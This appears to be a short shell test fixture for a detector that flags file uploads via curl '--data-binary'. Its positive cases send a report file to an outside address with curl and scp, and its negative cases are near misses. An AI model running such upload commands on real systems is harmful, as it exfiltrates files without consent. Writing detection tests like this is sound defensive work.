# finds: cmdline~--data-binary
# near miss: a download; a form sent to loopback; a small text without a file
setup() { echo x >report.txt; fake scp; }
positive() { curl -s -m 2 --data-binary @report.txt http://203.0.113.9/; scp report.txt me@203.0.113.9:/tmp/; }
negative() { curl -s -m 2 -o page http://203.0.113.9/; curl -s -m 2 -F file=@report.txt http://127.0.0.1/; curl -s -m 2 -d q=1 http://203.0.113.9/; }
